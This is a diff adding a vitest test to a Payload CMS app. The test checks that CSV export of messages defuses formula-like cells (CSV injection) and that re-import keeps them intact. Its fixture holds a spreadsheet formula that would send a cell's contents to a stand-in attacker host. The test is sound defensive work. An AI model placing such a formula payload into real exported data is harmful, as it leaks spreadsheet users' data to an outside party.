@@ -3,6 +3,7 @@ import type { Payload } from 'payload'
 import { handleEndpoints } from 'payload'
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
 import { type Cms, startCms } from './support/cms'
+import { lexical, messageData } from './support/content'
 import { createWorld, type World } from './support/people'
 import { login } from './support/rest'
 
@@ -103,6 +104,32 @@ describe('CSV import and export of messages', () => {
     })
     const again = await call('POST', editorToken, exported.text)
     expect(JSON.parse(again.text)).toMatchObject({ ok: true, created: 0 })
+  })
+
+  it('exports formula-like cells as text and imports them back unchanged (CSV injection)', async () => {
+    const subject = '=HYPERLINK("https://evil.example/?"&A1,"詳しくはこちら")'
+    const shortText = "'=1+1 は書いたまま"
+    await payload.create({
+      collection: 'messages',
+      data: messageData('pregnancy/70', { subject, body: lexical('@ここから'), shortText }),
+      overrideAccess: false,
+      user: world.users.editor,
+    })
+    const exported = await call('GET', editorToken)
+    const row = Papa.parse<Record<string, string>>(exported.text.replace(/^\uFEFF/, ''), {
+      header: true,
+    }).data.find((r) => r.slot === 'pregnancy/70')
+    expect(row).toMatchObject({ subject: `'${subject}`, body: "'@ここから", shortText: `'${shortText}` })
+    for (const cell of Object.values(row ?? {})) expect(cell).not.toMatch(/^[=+\-@\t\r]/)
+
+    const again = await call('POST', editorToken, exported.text)
+    expect(JSON.parse(again.text)).toMatchObject({ ok: true, created: 0 })
+    const { docs } = await payload.find({
+      collection: 'messages',
+      where: { slot: { equals: 'pregnancy/70' } },
+    })
+    expect(docs.map((d) => [d.subject, d.shortText])).toEqual([[subject, shortText]])
+    expect(JSON.stringify(docs[0]?.body)).toContain('"@ここから"')
   })
 
   it('lets only editors import', async () => {
